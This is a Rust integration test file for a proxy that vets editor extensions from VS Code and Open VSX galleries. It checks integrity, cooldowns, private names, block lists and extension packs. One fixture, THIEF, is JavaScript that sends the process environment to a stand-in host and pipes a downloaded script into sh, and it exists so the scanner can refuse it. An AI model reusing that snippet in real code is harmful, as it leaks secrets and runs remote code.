//! Editor extensions through the door: two protocols over one upstream, and what is found in a package counts in both.

use http::Method;
use serde_json::{Value, json};
use tidegate_store::catalogue::NewLocalBlock;
use tidegate_testkit::client::RawResponse;
use tidegate_testkit::{BuiltFile, FakeUpstream, Package};

use crate::support::{Setup, TestDoor, days_ago, decoded, json as read};

/// Code that hands what is typed and the environment to somebody else: inert here, and its address leads nowhere.
pub(crate) const THIEF: &str = r#"
const { exec } = require("child_process");
const https = require("https");
const encoded = Buffer.from(JSON.stringify(process.env)).toString("base64");
https.request({ host: "drop.invalid", path: "/" + encoded, method: "POST" }).end();
exec("curl -s http://drop.invalid/stage | sh");
"#;

/// An Open VSX server, and the host of its files, which has another name.
pub(crate) struct Gallery {
    pub(crate) server: FakeUpstream,
    pub(crate) files: FakeUpstream,
}

impl Gallery {
    pub(crate) fn start() -> Self {
        let files = FakeUpstream::start();
        let base = format!("http://localhost:{}", files.address().port());
        let server = FakeUpstream::builder().catalog(files.catalog()).files_at(&base).start();
        Self { server, files }
    }

    pub(crate) fn publish(&self, package: Package) -> BuiltFile {
        self.server.publish(package).remove(0)
    }

    fn stop(&self) {
        self.server.stop();
        self.files.stop();
    }
}

fn query(door: &TestDoor, repository: &str, ids: &[&str]) -> RawResponse {
    let criteria: Vec<Value> = ids.iter().map(|id| json!({ "filterType": 7, "value": id })).collect();
    let body = json!({ "filters": [{ "criteria": criteria, "pageNumber": 1, "pageSize": ids.len() }], "flags": 439 });
    let target = format!("/{repository}/gallery/extensionquery");
    door.send("POST", &target, &["Content-Type: application/json"], body.to_string().as_bytes())
}

pub(crate) fn package_of(repository: &str, name: &str, version: &str) -> String {
    format!("/{repository}/asset/acme/{name}/{version}/Microsoft.VisualStudio.Services.VSIXPackage")
}

/// Nothing in an answer names the upstream or the host of its files.
#[track_caller]
fn stays_here(gallery: &Gallery, response: &RawResponse) {
    let (server, files) =
        (gallery.server.address().to_string(), format!(":{}", gallery.files.address().port()));
    let text = String::from_utf8_lossy(&decoded(response)).into_owned();
    for (what, text) in
        response.headers.iter().map(|(name, value)| (name.as_str(), value.as_str())).chain([("body", &*text)])
    {
        assert!(!text.contains(&server) && !text.contains(&files), "{what}: {text}");
    }
    assert_eq!(response.header("location"), None);
}

#[test]
fn both_protocols_serve_the_same_bytes_and_lead_nowhere_else() {
    let gallery = Gallery::start();
    let tool = gallery.publish(Package::vscode("Acme.Tool", "1.0.0").padded(200_000));
    let linux = gallery
        .server
        .publish(Package::vscode("Acme.Native", "1.0.0").targets(&["linux-x64", "web"]))
        .remove(0);
    let door = Setup::new(&gallery.server).open();
    for repository in ["vscode", "openvsx"] {
        let base = format!("/{repository}/");
        for target in
            ["api/Acme/Tool", "api/acme/tool/1.0.0", "api/acme/tool/versions", "api/-/search?query=tool"]
        {
            let response = door.get(&format!("{base}{target}"));
            assert_eq!(response.status, 200, "{target}: {}", response.text());
            stays_here(&gallery, &response);
        }
        let latest = door.get(&format!("{base}gallery/vscode/acme/tool/latest"));
        stays_here(&gallery, &latest);
        let found = query(&door, repository, &["acme.tool", "acme.native", "acme.none"]);
        stays_here(&gallery, &found);
        let extensions = read(&found)["results"][0]["extensions"].clone();
        assert_eq!(extensions.as_array().unwrap().len(), 2, "{extensions}");
        // Every address in the answers is one of the door's, and gives what it says.
        for version in extensions.as_array().unwrap().iter().flat_map(|e| e["versions"].as_array().unwrap()) {
            for file in version["files"].as_array().unwrap() {
                let source = file["source"].as_str().unwrap();
                let path = source.strip_prefix("http://door.test").unwrap_or_else(|| panic!("{source}"));
                let response = door.get(path);
                assert_eq!(response.status, 200, "{source}: {}", response.text());
                assert!(response.header("x-tidegate-decision").unwrap().len() > 10);
                stays_here(&gallery, &response);
                if file["assetType"].as_str().unwrap().ends_with("VSIXPackage")
                    && version["targetPlatform"] != "web"
                {
                    let expected = if source.contains("Native") { &linux } else { &tool };
                    assert_eq!(response.body, expected.bytes, "{source}");
                }
                if file["assetType"].as_str().unwrap().ends_with("VsixSignature") && source.contains("Tool") {
                    assert_eq!(
                        response.body,
                        tidegate_testkit::upstream::vsix_signature(&tool.bytes),
                        "byte for byte"
                    );
                }
            }
        }
    }
    let packages =
        gallery.files.requests().iter().filter(|r| r.path.ends_with("Acme.Tool-1.0.0.vsix")).count();
    assert_eq!(packages, 1, "one package, fetched once for both doors");
    gallery.stop();
    for repository in ["vscode", "openvsx"] {
        let part = door.ask("GET", &package_of(repository, "tool", "1.0.0"), &["Range: bytes=1000-1999"]);
        assert_eq!((part.status, &part.body[..]), (206, &tool.bytes[1000..2000]));
        assert_eq!(
            read(&query(&door, repository, &["acme.tool"]))["results"][0]["extensions"][0]["extensionName"],
            "Tool"
        );
    }
}

#[test]
fn what_is_found_in_a_package_refuses_what_stands_beside_it_in_both_protocols() {
    let gallery = Gallery::start();
    gallery.publish(Package::vscode("acme.tool", "1.0.0"));
    let bad = gallery.publish(Package::vscode("acme.tool", "1.1.0").code(THIEF));
    let door = Setup::new(&gallery.server).open();
    let manifest = "/vscode/asset/acme/tool/1.1.0/Microsoft.VisualStudio.Code.Manifest";
    let signature = "/openvsx/api/acme/tool/1.1.0/file/acme.tool-1.1.0.sigzip";
    assert_eq!(read(&door.get("/openvsx/api/acme/tool"))["version"], "1.1.0", "nobody looked into it yet");
    assert_eq!((door.get(manifest).status, door.get(signature).status), (200, 200));
    let refused = door.get(&package_of("vscode", "tool", "1.1.0"));
    assert_eq!(refused.status, 403, "{}", refused.text());
    assert!(refused.reason.contains("acme/tool@1.1.0"), "{}", refused.reason);
    let message = read(&refused);
    assert!(message["message"].as_str().unwrap().contains("newest compliant: 1.0.0"), "{message}");
    assert_eq!(message["error"], message["message"]);
    // The same decision on every other way to it, through either door.
    for target in
        [manifest, signature, &package_of("openvsx", "tool", "1.1.0"), "/openvsx/api/acme/tool/1.1.0"]
    {
        let response = door.get(target);
        assert_eq!(response.status, 403, "{target}: {}", response.text());
        assert!(!crate::support::leaks(&response, &bad.bytes), "{target}");
    }
    for repository in ["vscode", "openvsx"] {
        let newest = read(&door.get(&format!("/{repository}/api/acme/tool")));
        assert_eq!(newest["version"], "1.0.0", "{newest}");
        assert_eq!(newest["allVersions"].as_object().unwrap().keys().next_back().unwrap(), "1.1.0");
        let found = read(&query(&door, repository, &["acme.tool"]));
        let versions = found["results"][0]["extensions"][0]["versions"].as_array().unwrap().clone();
        assert_eq!((versions.len(), &versions[0]["version"]), (1, &json!("1.0.0")), "{found}");
    }
}

#[test]
fn other_bytes_than_the_registry_states_are_refused() {
    let gallery = Gallery::start();
    let tool = gallery.publish(Package::vscode("acme.tool", "1.0.0"));
    gallery.server.catalog().serve_other_bytes(&tool.name, b"PK other bytes".to_vec());
    let door = Setup::new(&gallery.server).open();
    let refused = door.get(&package_of("vscode", "tool", "1.0.0"));
    assert_eq!(refused.status, 403, "{}", refused.text());
    assert!(refused.reason.contains("are not the promised ones"), "{}", refused.reason);
    assert_eq!(door.alarms(), ["integrity"]);
}

#[test]
fn an_extension_without_a_selectable_version_is_not_in_the_gallery() {
    let gallery = Gallery::start();
    gallery.publish(Package::vscode("acme.young", "1.0.0").published(&days_ago(1)));
    let door = Setup::new(&gallery.server).open();
    let found = read(&query(&door, "vscode", &["acme.young"]));
    assert_eq!(found["results"][0]["extensions"], json!([]));
    assert_eq!(found["results"][0]["resultMetadata"][0]["metadataItems"][0]["count"], 0);
    for target in ["/vscode/gallery/vscode/acme/young/latest", "/openvsx/api/acme/young"] {
        let refused = door.get(target);
        assert_eq!(refused.status, 403, "{target}: {}", refused.text());
        assert!(refused.reason.contains("cooldown"), "{}", refused.reason);
    }
    assert_eq!(door.get("/openvsx/api/acme/nothing").status, 404);
    assert_eq!(door.get("/vscode/gallery/vscode/acme/nothing/latest").status, 404);
}

#[test]
fn a_search_and_a_query_fail_where_upstream_does() {
    let gallery = Gallery::start();
    gallery.publish(Package::vscode("acme.tool", "1.0.0"));
    let door = Setup::new(&gallery.server).open();
    gallery.stop();
    assert!(query(&door, "vscode", &["acme.tool"]).status >= 500, "a failure is not an empty gallery");
    assert!(door.get("/openvsx/api/-/search?query=tool").status >= 500);
}

#[test]
fn private_names_stay_home() {
    let gallery = Gallery::start();
    gallery.publish(Package::vscode("acme.tool", "1.0.0"));
    let door = Setup::new(&gallery.server)
        .with(|config| {
            for name in ["vscode", "openvsx"] {
                config.repository.get_mut(name).unwrap().private = vec!["secret-team/*".into()];
            }
        })
        .open();
    let found = query(&door, "vscode", &["acme.tool", "secret-team.plan"]);
    assert_eq!(read(&found)["results"][0]["extensions"].as_array().unwrap().len(), 1);
    for target in [
        "/openvsx/api/secret-team/plan",
        "/vscode/gallery/vscode/secret-team/plan/latest",
        "/openvsx/api/-/search?query=secret-team",
        "/openvsx/api/-/query?namespaceName=secret-team",
    ] {
        assert!(door.get(target).status >= 400, "{target}");
    }
    let body = json!({ "filters": [{ "criteria": [{ "filterType": 10, "value": "secret-team plan" }] }], "flags": 1 });
    let asked = door.send("POST", "/vscode/gallery/extensionquery", &[], body.to_string().as_bytes());
    assert_eq!(asked.status, 404, "{}", asked.text());
    for upstream in [&gallery.server, &gallery.files] {
        upstream.assert_never_asked("secret-team");
    }
}

#[test]
fn what_is_blocked_whole_is_recalled() {
    let gallery = Gallery::start();
    gallery.publish(Package::vscode("acme.tool", "1.0.0"));
    gallery.publish(Package::vscode("acme.other", "1.0.0"));
    let door = Setup::new(&gallery.server).open();
    for name in ["tool", "other"] {
        assert_eq!(door.get(&package_of("vscode", name, "1.0.0")).status, 200);
    }
    let list = |door: &TestDoor| {
        let response = door.get("/vscode/control.json");
        assert_eq!(response.status, 200, "{}", response.text());
        read(&response)["malicious"].clone()
    };
    assert_eq!(list(&door), json!([]));
    block(&door, "pkg:vscode-extension/acme/tool");
    assert_eq!(list(&door), json!(["acme.tool"]));
    block(&door, "pkg:vscode-extension/acme/other@1.0.0");
    assert_eq!(list(&door), json!(["acme.other", "acme.tool"]), "every version of it is blocked");
    gallery.publish(Package::vscode("acme.other", "1.0.1"));
    // The new version shows once the index is asked for again, and the list is made anew every so often.
    door.until("whoever is on a good version stays there", || {
        door.clock().advance(3_600);
        door.get("/vscode/api/acme/other/1.0.1");
        list(&door) == json!(["acme.tool"])
    });
}

#[test]
fn a_pack_is_judged_by_what_it_brings_along() {
    let gallery = Gallery::start();
    gallery.publish(Package::vscode("acme.member", "1.0.0"));
    gallery.publish(Package::vscode("acme.young", "1.0.0").published(&days_ago(1)));
    gallery.publish(Package::vscode("acme.pack", "1.0.0"));
    gallery.publish(Package::vscode("acme.pack", "2.0.0").brings(&["acme.member", "acme.none"]));
    gallery.publish(
        Package::vscode("acme.eager", "1.0.0").brings(&["acme.young"]).depends_on("acme.member", ""),
    );
    let door = Setup::new(&gallery.server).open();
    // A member that is too young is said, and the pack may be had.
    let eager = door.get(&package_of("vscode", "eager", "1.0.0"));
    assert_eq!(eager.status, 200, "{}", eager.text());
    let warning = eager.header("x-tidegate-warning").unwrap();
    assert!(warning.contains("brings-refused") && warning.contains("acme/young"), "{warning}");
    assert_eq!(
        door.get(&package_of("vscode", "young", "1.0.0")).status,
        403,
        "each is decided on when it is asked for"
    );
    assert_eq!(read(&door.get("/openvsx/api/acme/pack"))["version"], "2.0.0");
    assert_eq!(door.get(&package_of("vscode", "pack", "2.0.0")).status, 200);
    // One that is blocked holds the version that brings it, in both protocols, and not the one before.
    block(&door, "pkg:vscode-extension/acme/member");
    let held = door.get(&package_of("vscode", "pack", "2.0.0"));
    assert_eq!(held.status, 403, "{}", held.text());
    assert!(held.reason.contains("brings-blocked") && held.reason.contains("acme/member"), "{}", held.reason);
    assert_eq!(read(&door.get("/openvsx/api/acme/pack"))["version"], "1.0.0");
    let found = read(&query(&door, "vscode", &["acme.pack"]));
    assert_eq!(found["results"][0]["extensions"][0]["versions"].as_array().unwrap().len(), 1, "{found}");
    let dependent = door.get(&package_of("openvsx", "eager", "1.0.0"));
    assert!(
        dependent.reason.contains("brings-blocked"),
        "what is needed counts as well: {}",
        dependent.reason
    );
}

fn block(door: &TestDoor, purl: &str) {
    let block = NewLocalBlock {
        purl: purl.into(),
        sha256: None,
        reason: "stolen".into(),
        actor: "lead".into(),
        at: door.clock().now(),
    };
    door.door.store.catalogue.put_local_block(&block).unwrap();
    door.door.reload_rules().unwrap();
}

#[test]
fn nothing_is_counted_anywhere_else() {
    let gallery = Gallery::start();
    let door = Setup::new(&gallery.server).open();
    let target = "/vscode/gallery/publishers/acme/extensions/tool/1.0.0/stats?statType=install";
    let counted = door.send(Method::POST.as_str(), target, &[], b"{}");
    assert_eq!(counted.status, 200, "{}", counted.text());
    assert_eq!(gallery.server.requests().len(), 0);
    let manifest = read(&door.get("/vscode/manifest.json"));
    let resources = manifest["resources"].as_array().unwrap();
    assert!(
        resources.iter().all(|r| r["id"].as_str().unwrap().starts_with("http://door.test/vscode/")),
        "{manifest}"
    );
}
